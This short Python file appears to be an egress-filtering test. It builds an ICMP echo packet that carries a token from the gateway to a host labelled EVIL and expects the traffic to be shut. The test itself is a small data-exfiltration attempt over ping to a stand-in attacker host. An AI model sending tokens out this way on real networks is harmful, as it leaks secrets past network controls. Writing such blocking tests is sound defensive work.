"""
how: a ping
expect: shut
"""

from frames import by, echo, gateway, ipv4
from land import EVIL


def attempt(token):
    return by(gateway(), ipv4(EVIL, 1, echo(token)))
